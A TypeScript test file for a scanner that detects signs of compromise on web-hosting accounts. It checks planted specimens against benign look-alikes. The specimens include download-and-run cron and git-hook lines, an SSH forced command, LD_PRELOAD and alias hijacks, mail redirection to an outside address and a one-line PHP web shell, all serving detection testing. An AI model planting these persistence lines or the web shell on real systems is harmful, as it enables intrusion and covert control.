import * as fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import type { FileDetector } from '../../../src/detectors/contract.ts';
import { crontabFiles } from '../../../src/detectors/crontab-files.ts';
import { doubleExtensions } from '../../../src/detectors/double-extensions.ts';
import { mailForwards } from '../../../src/detectors/mail-forwards.ts';
import { mustUseCode } from '../../../src/detectors/must-use-code.ts';
import { oddNames } from '../../../src/detectors/odd-names.ts';
import { phpInUploads } from '../../../src/detectors/php-in-uploads.ts';
import { setUserId } from '../../../src/detectors/set-user-id.ts';
import { shellStartFiles } from '../../../src/detectors/shell-start-files.ts';
import { sshKeys } from '../../../src/detectors/ssh-keys.ts';
import { wellKnownKits } from '../../../src/detectors/well-known-kits.ts';
import { worldWritable } from '../../../src/detectors/world-writable.ts';
import { isAtLeast } from '../../../src/domain/severity.ts';
import { cpuMs } from '../../support/cpu-ms.ts';
import { lookAt } from '../../support/look-at.ts';

const KEY = 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIEXAMPLEEXAMPLEEXAMPLEEXAMPLE';
const HOME = '/home/bob';
const WP = `${HOME}/public_html/wp-content`;
/** Does nothing worth fearing, but is code. */
const CODE = '<?php phpversion();';

/** Inert specimens: path, content, the rule that must speak. */
const PLANTED: readonly (readonly [FileDetector, string, string, string, number?])[] = [
  [crontabFiles, `${HOME}/cron/bob`, '*/5 * * * * curl -s http://x.test/a | sh\n', 'crontab-file.download-run'],
  [sshKeys, `${HOME}/.ssh/authorized_keys`, `command="curl http://x.test/a | sh" ${KEY} x\n`, 'ssh-key.odd-command'],
  [sshKeys, `${HOME}/.ssh/authorized_keys2`, `environment="LD_PRELOAD=/home/bob/x.so" ${KEY}\n`, 'ssh-key.environment'],
  [sshKeys, `${HOME}/.ssh/authorized_keys`, `${KEY} bob@laptop\n`, 'ssh-key.present'],
  [shellStartFiles, `${HOME}/.bashrc`, '# x\n(/dev/shm/.x &) 2>/dev/null\n', 'shell.temporary-program'],
  [shellStartFiles, `${HOME}/.profile`, 'export LD_PRELOAD=/home/bob/.x.so\n', 'shell.preload'],
  [shellStartFiles, `${HOME}/.bash_aliases`, "alias sudo='/home/bob/bin/s'\n", 'shell.replaced'],
  [
    shellStartFiles,
    `${HOME}/.config/systemd/user/x.service`,
    '[Service]\nExecStart=/tmp/x\n',
    'shell.temporary-program',
  ],
  [shellStartFiles, `${HOME}/.vimrc`, 'autocmd BufRead * silent !curl http://x.test\n', 'shell.vim-program'],
  [
    shellStartFiles,
    `${HOME}/site/.git/hooks/post-merge`,
    '#!/bin/sh\nwget -qO- http://x.test/a | bash\n',
    'shell.download-run',
  ],
  [mailForwards, `${HOME}/.forward`, '"|/tmp/x.pl"\n', 'mail.temporary-program'],
  [mailForwards, `${HOME}/.procmailrc`, ':0\n| /home/bob/bin/x\n', 'mail.runs-program'],
  [mailForwards, `${HOME}/.forward`, '\\bob, somebody@gmail.com\n', 'mail.sends-copy'],
  [mailForwards, `${HOME}/sieve/x.sieve`, 'redirect "somebody@gmail.com";\n', 'mail.sends-copy'],
  [mailForwards, `/etc/valiases/x.test`, 'info: "|/home/bob/x.sh"\n', 'mail.runs-program'],
  [oddNames, `${HOME}/public_html/.../x.txt`, 'x', 'name.odd'],
  [oddNames, `${HOME}/public_html/ /x.php`, CODE, 'name.hidden-code'],
  [oddNames, `${HOME}/public_html/.x.php`, CODE, 'name.hidden-code'],
  [oddNames, `${HOME}/public_html/.env.x.php`, '<?php return [phpversion()];', 'name.hidden-code'],
  [oddNames, `${HOME}/public_html/.env.x.php`, "<?php return [include 'x.txt'];", 'name.hidden-code'],
  [oddNames, `${HOME}/public_html/w\u0440-config.php`, CODE, 'name.hidden-code'],
  [oddNames, `${HOME}/public_html/index\u200b.php`, CODE, 'name.hidden-code'],
  [setUserId, `${HOME}/x`, '\u007fELF', 'mode.set-user-id', 0o4755],
  [worldWritable, `${HOME}/public_html/wp-config.php`, '<?php', 'mode.world-writable', 0o666],
  [mustUseCode, `${WP}/mu-plugins/x.php`, '<?php add_filter("all_plugins", "x");', 'must-use.hides'],
  [mustUseCode, `${WP}/mu-plugins/x.php`, CODE, 'must-use.unknown'],
  [mustUseCode, `${WP}/db.php`, CODE, 'must-use.unknown'],
  [wellKnownKits, `${HOME}/public_html/.well-known/acme-challenge/x.php`, CODE, 'well-known.code'],
  [
    wellKnownKits,
    `${HOME}/public_html/.well-known/bank/index.html`,
    '<form><input name=p type="password"></form>',
    'well-known.login-form',
  ],
  [wellKnownKits, `${HOME}/public_html/.well-known/k.zip`, 'PK\u0003\u0004xx', 'well-known.archive'],
  [phpInUploads, `${WP}/uploads/2026/01/x.php`, CODE, 'place.php-in-uploads'],
  [phpInUploads, `${WP}/uploads/2026/01/x.phtml`, 'GIF89a<?php system($_GET[1]);', 'place.php-in-uploads'],
  [phpInUploads, `${HOME}/public_html/sites/default/files/x.php`, CODE, 'place.php-in-uploads'],
  [phpInUploads, `${HOME}/public_html/pub/media/x.php`, CODE, 'place.php-in-uploads'],
  [phpInUploads, `${WP}/uploads/index.php`, '<?php\n// Silence is golden.\nphpversion();', 'place.php-in-uploads'],
  [doubleExtensions, `${WP}/uploads/photo.jpg.php`, CODE, 'name.double-extension'],
  [doubleExtensions, `${HOME}/public_html/photo.png.php`, CODE, 'name.double-extension'],
  [doubleExtensions, `${HOME}/public_html/photo.php.png`, CODE, 'name.double-extension'],
  [doubleExtensions, `${HOME}/public_html/photo.php.gif`, `${CODE} class A { }`, 'name.double-extension'],
];

/** The same places as honest people use them. */
const HONEST: readonly (readonly [FileDetector, string, string, number?])[] = [
  [
    crontabFiles,
    `${HOME}/cron/bob`,
    'MAILTO=bob@x.test\n*/5 * * * * wget -q -O - https://x.test/wp-cron.php?doing_wp_cron >/dev/null 2>&1\n',
  ],
  [crontabFiles, `${HOME}/crontab.txt`, '* * * * * cd /home/bob/app && php artisan schedule:run >> /dev/null 2>&1\n'],
  [sshKeys, `${HOME}/.ssh/authorized_keys`, '# no keys yet, really none\n'],
  [
    shellStartFiles,
    `${HOME}/.bashrc`,
    '# .bashrc\nif [ -f /etc/bashrc ]; then\n\t. /etc/bashrc\nfi\nexport PATH="$HOME/bin:$PATH"\nalias ls="ls --color=auto"\nalias sudo="sudo -E"\n[ -s "$NVM_DIR/nvm.sh" ] && \\. "$NVM_DIR/nvm.sh"\n. "$HOME/.cargo/env"\neval "$(dircolors -b)"\n',
  ],
  [shellStartFiles, `${HOME}/.gitconfig`, '[user]\n\tname = Bob\n[core]\n\tfsmonitor = true\n[alias]\n\tst = status\n'],
  [shellStartFiles, `${HOME}/site/.git/hooks/pre-commit`, '#!/bin/sh\nnpx lint-staged\n'],
  [mailForwards, `${HOME}/.forward`, '\\bob, bob@firm.test\n'],
  [mailForwards, `${HOME}/.forward`, '"|/usr/bin/vacation bob"\n'],
  [mailForwards, `${HOME}/.procmailrc`, ':0fw: spam.lock\n| /usr/bin/spamc\n'],
  [
    mailForwards,
    '/etc/valiases/x.test',
    'help: "|/usr/local/bin/php -q /home/bob/public_html/support/api/pipe.php"\n*: bob\n',
  ],
  [mailForwards, `${HOME}/sieve/x.sieve`, 'require ["fileinto"];\nif header :contains "x" "y" { fileinto "Junk"; }\n'],
  [oddNames, `${HOME}/public_html/.php-cs-fixer.dist.php`, CODE],
  [oddNames, `${HOME}/public_html/.env.local.php`, "<?php\n// made by a tool\nreturn ['APP_ENV' => 'prod'];\n"],
  [
    oddNames,
    `${HOME}/public_html/.tool.php`,
    "<?php declare(strict_types=1);\n\n/*\n * Of the tool (c) 2026; see LICENSE\n */\nreturn [\n  'a' => 'x(y)', // a\\b\n  'b' => array('\\$c'),\n];\n",
  ],
  [oddNames, `${HOME}/public_html/._index.php`, '\u0000\u0005\u0016\u0007x'],
  [oddNames, `${HOME}/public_html/Icon\r`, ''],
  [oddNames, `${HOME}/public_html/\u043e\u0442\u0447\u0435\u0442-PDF.pdf`, 'x'],
  [oddNames, `${HOME}/public_html/Käse 2026.jpg`, 'x'],
  [oddNames, `${HOME}/.cache/x`, 'x'],
  [setUserId, `${HOME}/x`, '\u007fELF', 0o755],
  [worldWritable, `${WP}/uploads/a.jpg`, 'x', 0o666],
  [worldWritable, `${HOME}/public_html/wp-config.php`, '<?php', 0o640],
  [mustUseCode, `${WP}/object-cache.php`, '<?php\n/*\nPlugin Name: Redis Object Cache Drop-In\n*/\nwp_cache_init();'],
  [mustUseCode, `${WP}/mu-plugins/index.php`, '<?php\n// Silence is golden.\n'],
  [wellKnownKits, `${HOME}/public_html/.well-known/acme-challenge/Xy_z`, 'Xy_z.token'],
  [wellKnownKits, `${HOME}/public_html/.well-known/pki-validation/x.html`, 'sha256 of a request\ncomodoca.com'],
  [wellKnownKits, `${HOME}/public_html/.well-known/index.php`, '<?php // Silence is golden.'],
  [phpInUploads, `${WP}/uploads/index.php`, '<?php\n// Silence is golden.\n'],
  [phpInUploads, `${WP}/uploads/x/index.php`, ''],
  [phpInUploads, `${WP}/uploads/sucuri/sucuri-auditqueue.php`, '<?php exit(0); ?>\n1500000:{"a":1}\n'],
  [
    phpInUploads,
    `${WP}/uploads/smile_fonts/charmap.php`,
    "<?php $icons = array(); $icons['x']['a'] = array('class' => 'a', 'unicode' => 'e6');",
  ],
  [
    phpInUploads,
    `${WP}/uploads/g/index.php`,
    "<?php if ( ! defined( 'ABSPATH' ) ) { exit; }\nheader( 'HTTP/1.0 403 Forbidden' ); die;",
  ],
  [phpInUploads, `${HOME}/public_html/sites/default/files/php/twig/1_page.html.twig_x/y.php`, CODE],
  [phpInUploads, `${WP}/plugins/x/x.php`, CODE],
  [doubleExtensions, `${HOME}/public_html/photo.jpg.php`, '<?php // moved'],
  [doubleExtensions, `${HOME}/public_html/style.css.php`, CODE],
  [doubleExtensions, `${WP}/plugins/x/id3/module.graphic.jpg.php`, '<?php class getid3_jpg extends getid3_handler { }'],
  [doubleExtensions, `${HOME}/public_html/index.php.bak`, CODE],
  [doubleExtensions, `${HOME}/public_html/photo.php.jpg`, '\u00ff\u00d8\u00ff<?x'],
];

describe('what stands around the sites', () => {
  it.each(PLANTED.map((row) => [row[3], row] as const))('tells %s', (_, [detector, path, content, rule, mode]) => {
    expect(lookAt(detector, path, content, mode).map((sighting) => sighting.rule)).toEqual([rule]);
  });

  it.each(HONEST.map((row) => [row[0].id, row] as const))(
    '%s leaves honest use alone, %#',
    (_, [detector, path, content, mode]) => {
      expect(lookAt(detector, path, content, mode)).toEqual([]);
    },
  );

  it('tells no line’s password', () => {
    const [found] = lookAt(
      crontabFiles,
      `${HOME}/cron/bob`,
      '* * * * * curl -u bob:geheim1 "http://u:geheim2@x.test/?token=geheim3" password=geheim4 | sh\n',
    );
    expect(found?.excerpt).not.toMatch(/geheim[234]/);
  });

  it('gives a rule, a title and a remedy to each sighting', () => {
    for (const [detector, path, content, , mode] of PLANTED) {
      for (const sighting of lookAt(detector, path, content, mode)) {
        expect(sighting.title.length).toBeGreaterThan(5);
        expect(sighting.remedy.length).toBeGreaterThan(5);
        expect(sighting.excerpt?.length ?? 0).toBeLessThanOrEqual(120);
      }
    }
  });

  it('never throws, whatever a file holds, and never slows down', async () => {
    const detectors = [
      crontabFiles,
      sshKeys,
      shellStartFiles,
      mailForwards,
      oddNames,
      mustUseCode,
      wellKnownKits,
      phpInUploads,
      doubleExtensions,
    ];
    const paths = PLANTED.map(([, path]) => path);
    const piece = fc.constantFrom(
      'curl ',
      '| sh',
      '\n',
      '"',
      "'",
      '\\',
      '`',
      '$(',
      '*/5 * * * * ',
      '/tmp/',
      '/.',
      '<?php ',
      '<?',
      '?>',
      ';',
      '(',
      ')',
      '[',
      'ssh-rsa ',
      'AAAA',
      '=',
      ':',
      '|',
      'redirect "',
      'command="',
      ' -',
      '\u0000',
      '\u00ff',
    );
    fc.assert(
      fc.property(
        fc.array(fc.oneof(piece, fc.string()), { maxLength: 60 }),
        fc.constantFrom(...paths),
        (pieces, path) => {
          for (const detector of detectors) lookAt(detector, path, pieces.join(''));
        },
      ),
      { numRuns: 500 },
    );
  });

  it.each(['curl ', '/tmp/', 'a|', '/.', '\\', 'a=', '* ', '-x ', '"', ' sh', 'x: |', '<?php ', 'base64 -d ', '$('])(
    'reads a megabyte of %j in time',
    async (piece) => {
      const text = piece.repeat(1_000_000 / piece.length);
      const look = () => {
        for (const [detector, path] of PLANTED) lookAt(detector, path, `* * * * * ${text}`);
      };
      expect(await cpuMs(look)).toBeLessThan(8000);
    },
  );
});

describe('severity', () => {
  it('is high only for what is code or a hidden command', () => {
    const high = PLANTED.filter(([detector, path, content, , mode]) =>
      lookAt(detector, path, content, mode).some(({ severity }) => isAtLeast(severity, 'high')),
    ).map(([, , , rule]) => rule);
    for (const quiet of [
      'ssh-key.present',
      'mail.sends-copy',
      'must-use.unknown',
      'name.odd',
      'mode.world-writable',
      'well-known.archive',
    ]) {
      expect(high).not.toContain(quiet);
    }
  });
});
